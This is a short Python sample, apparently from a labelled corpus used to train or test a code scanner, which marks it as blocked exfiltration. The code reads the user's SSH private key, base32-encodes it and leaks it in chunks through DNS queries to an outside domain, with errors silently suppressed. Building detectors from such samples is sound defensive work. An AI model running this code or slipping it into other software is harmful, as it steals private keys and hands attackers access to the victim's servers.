# pyguard-corpus: verdict=block category=exfil rules=PG603,PG606
# what: base32-encodes an SSH key and leaks it in chunks as DNS queries through dnspython
import base64
import os

import dns.resolver

with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as handle:
    encoded = base64.b32encode(handle.read()).decode().rstrip("=").lower()

for index in range(0, len(encoded), 60):
    chunk = encoded[index:index + 60]
    try:
        dns.resolver.resolve(f"{chunk}.{index // 60}.x.example-cdn.net", "A")
    except Exception:
        pass
